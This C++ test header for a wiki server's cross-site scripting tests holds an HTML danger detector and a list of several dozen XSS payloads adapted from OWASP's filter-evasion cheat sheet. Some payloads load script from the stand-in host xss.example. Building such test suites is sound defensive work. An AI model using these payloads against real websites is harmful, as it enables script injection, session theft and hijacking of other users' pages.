// Dangers(html): what in a piece of HTML a browser could execute: script-
// capable tags, on* event handler attributes, and href/src URLs whose
// scheme is javascript:, vbscript: or data:text once entities and
// whitespace are taken out. Empty when the HTML is safe. Shared by the
// XSS tests (X1, X3) at the unit and the HTTP level.
#pragma once

#include <algorithm>
#include <cctype>
#include <cstdlib>
#include <string>
#include <string_view>
#include <vector>

namespace wikid::testing {

inline std::string Lower(std::string s) {
  std::transform(s.begin(), s.end(), s.begin(),
                 [](unsigned char c) { return std::tolower(c); });
  return s;
}

// Decodes &#NN; and &#xNN; and drops whitespace and control characters:
// how a browser reads a URL attribute before it looks at the scheme.
// (Browsers do not percent-decode a scheme: "%6Aavascript:" is a relative
// path, harmless.)
inline std::string NormaliseUrl(std::string url) {
  std::string out;
  for (size_t i = 0; i < url.size(); ++i) {
    if (url[i] == '&' && i + 2 < url.size() && url[i + 1] == '#') {
      size_t semi = url.find(';', i);
      if (semi != std::string::npos) {
        bool hex = url[i + 2] == 'x' || url[i + 2] == 'X';
        long code = std::strtol(url.c_str() + i + (hex ? 3 : 2), nullptr,
                                hex ? 16 : 10);
        if (code > 0 && code < 128) out += static_cast<char>(code);
        i = semi;
        continue;
      }
    }
    out += url[i];
  }
  std::erase_if(out, [](unsigned char c) { return c <= ' '; });
  return Lower(out);
}

// Walks the tags of `html` and reports what a browser could execute.
inline std::string Dangers(const std::string& html) {
  std::string found;
  std::string lower = Lower(html);
  for (const char* tag :
       {"<script", "<iframe", "<frame", "<svg", "<object", "<embed",
        "<applet", "<style", "<form", "<math", "<base", "<meta", "<link",
        "<bgsound", "<xss", "<marquee", "<isindex", "<video",
        "<audio", "<xml", "<input type=\"image"}) {
    if (lower.find(tag) != std::string::npos)
      found += std::string(" tag ") + tag;
  }
  size_t pos = 0;
  while ((pos = lower.find('<', pos)) != std::string::npos) {
    size_t end = lower.find('>', pos);
    if (end == std::string::npos) break;
    std::string tag = lower.substr(pos, end - pos);
    // Attributes: name="value" pairs inside the tag.
    size_t at = tag.find(' ');
    while (at != std::string::npos && at < tag.size()) {
      size_t eq = tag.find('=', at);
      if (eq == std::string::npos) break;
      std::string name = tag.substr(at + 1, eq - at - 1);
      name.erase(0, name.find_first_not_of(" "));
      if (name.starts_with("on")) found += " handler " + name;
      size_t value_end = eq + 1;
      std::string value;
      if (value_end < tag.size() && (tag[value_end] == '"' || tag[value_end] == '\'')) {
        char quote = tag[value_end];
        size_t close = tag.find(quote, value_end + 1);
        value = tag.substr(value_end + 1, close - value_end - 1);
        value_end = close == std::string::npos ? tag.size() : close + 1;
      } else {
        size_t space = tag.find(' ', value_end);
        value = tag.substr(value_end, space - value_end);
        value_end = space == std::string::npos ? tag.size() : space;
      }
      // Every attribute that takes a URL a browser may load or follow.
      if (name == "href" || name == "src" || name == "action" ||
          name == "formaction" || name == "background" || name == "dynsrc" ||
          name == "lowsrc" || name == "data" || name == "poster" ||
          name == "xlink:href") {
        std::string url = NormaliseUrl(value);
        for (const char* scheme : {"javascript:", "vbscript:", "data:text"}) {
          if (url.starts_with(scheme)) found += " url " + url;
        }
      }
      if (name == "style") {
        std::string css = NormaliseUrl(value);
        for (const char* bad : {"expression(", "javascript:", "behavior:", "-moz-binding"}) {
          if (css.find(bad) != std::string::npos) found += " style " + css;
        }
      }
      at = tag.find(' ', value_end);
    }
    pos = end;
  }
  return found;
}

// Dangers() of a whole wikid page, after removing the few tags our own
// layout and forms write (<meta>s, <link>s to its styles and feeds, and
// <form>s that post or get to the wiki's own routes, which user text cannot
// produce, since every '<' it contains is escaped).
inline std::string PageDangers(std::string html) {
  for (std::string_view own :
       {"<meta charset=\"utf-8\">", "<meta name=\"viewport\"",
        "<meta name=\"robots\"", "<meta name=\"description\"", "<link rel=\"stylesheet\" href=\"/_static/",
        "<link rel=\"icon\" href=\"/_static/",
        "<link rel=\"alternate\" type=\"application/atom+xml\" href=\"/_",
        "<form method=\"post\" action=\"/_",
        "<form method=\"get\" action=\"/_"}) {
    for (size_t at; (at = html.find(own)) != std::string::npos;) {
      html.erase(at, own.size());
    }
  }
  return Dangers(html);
}

// True if a whole wikid page has nothing executable in it.
inline bool HtmlIsInert(const std::string& html) {
  return PageDangers(html).empty();
}

// Hostile text for every field a user controls (X1): 64 payloads from
// OWASP's XSS filter evasion cheat sheet (tags, event handlers, scripted
// URLs in every encoding of "javascript:", CSS, broken markup), plus what
// is particular to wikid: Markdown links, images and autolinks, [[wiki
// links]] and embeds, and ctemplate's own markers. Each is one line, since
// they are summaries too. The HTTP tests of the fields' main views run
// them all; tests that pass a field through another route use XssSample().
inline const std::vector<std::string>& XssPayloads() {
  static const std::vector<std::string> kPayloads = {
      // Tags and handlers.
      "<script>alert(1)</script>",
      "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
      "<ScRiPt>alert(1)</sCrIpT>",
      "<<SCRIPT>alert(\"XSS\");//<</SCRIPT>",
      "<scr<script>ipt>alert(1)</scr</script>ipt>",
      "<SCRIPT/XSS SRC=\"https://xss.example/xss.js\"></SCRIPT>",
      "<SCRIPT SRC=//xss.example/.j>",
      "\"><img src=x onerror=alert(1)>",
      "' onmouseover='alert(1)",
      "<IMG SRC=# onmouseover=\"alert('xxs')\">",
      "<IMG SRC= onmouseover=\"alert('xxs')\">",
      "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
      "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
      "<svg/onload=alert('XSS')>",
      "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
      "<details open ontoggle=alert(1)>",
      "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
      "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
      "</textarea><script>alert(1)</script>",
      "\";alert('XSS');//",
      "<iframe src=\"data:text/html,<script>alert(1)</script>\"></iframe>",
      "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
      "<iframe src=https://xss.example/scriptlet.html <",
      "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
      "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"https://xss.example/x.html\"></OBJECT>",
      "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
      "<BGSOUND SRC=\"javascript:alert('XSS');\">",
      "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
      "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
      "<IMG DYNSRC=\"javascript:alert('XSS')\"> <IMG LOWSRC=\"javascript:alert('XSS')\">",
      "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
      "<BASE HREF=\"javascript:alert('XSS');//\">",
      "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
      "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
      "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
      // Scripted URLs, in every spelling a browser still runs.
      "javascript:alert(1)",
      "<a href=\"javascript:alert(1)\">x</a>",
      "<a href=\"jav&#x09;ascript:alert(1)\">x</a> [y](vbscript:msgbox)",
      "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
      "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
      "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116>",
      "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74>",
      "<IMG SRC=\"jav\tascript:alert('XSS');\">",
      "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
      "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
      "<IMG SRC=\"`('XSS')\"`",
      "<A HREF=\"javascript:document.location='https://xss.example/'\">XSS</A>",
      // CSS.
      "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
      "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
      "<DIV STYLE=\"width: expression(alert('XSS'));\">",
      "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
      "<STYLE>@import'https://xss.example/xss.css';</STYLE>",
      "<XSS STYLE=\"behavior: url(xss.htc);\">",
      "<HEAD><META HTTP-EQUIV=\"CONTENT-TYPE\" CONTENT=\"text/html; charset=UTF-7\"> </HEAD>+ADw-SCRIPT+AD4-alert('XSS');+ADw-/SCRIPT+AD4-",
      // Markdown's own ways to a link or an image.
      "[x](javascript:alert(1)) <svg onload=alert(1)>",
      "[x](JaVaScRiPt:alert(1)) [y]( javascript:alert(1)) [z](<javascript:alert(1)>)",
      "[x](javascript&#58;alert(1)) [y](java\\script:alert(1))",
      "![x](javascript:alert(1)) ![y](\"onerror=\"alert(1))",
      "<javascript:alert(1)> <vbscript:msgbox(1)>",
      "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
      // wikid's own syntax and its templates' markers.
      "[[Page|\"><script>alert(1)</script>]]",
      "[[javascript:alert(1)]] [[Page#\" onmouseover=\"alert(1)]]",
      "[[File:x.png|\" onerror=\"alert(1)|300px]]",
      "{{TITLE}} {{%AUTOESCAPE}} {{>LAYOUT}} {{BI_NEWLINE}}",
  };
  return kPayloads;
}

// Ten of XssPayloads(), from its families (tags, handlers, quotes,
// scripted URLs, entities, frames, Markdown, wiki links, templates), for
// tests that pass a field through another route after the main views
// have seen every payload.
inline const std::vector<std::string>& XssSample() {
  static const std::vector<std::string> kSample = [] {
    const std::vector<std::string>& all = XssPayloads();
    std::vector<std::string> sample;
    for (size_t i : {0, 7, 8, 18, 20, 37, 54, 59, 60, 63}) sample.push_back(all.at(i));
    return sample;
  }();
  return kSample;
}

}  // namespace wikid::testing
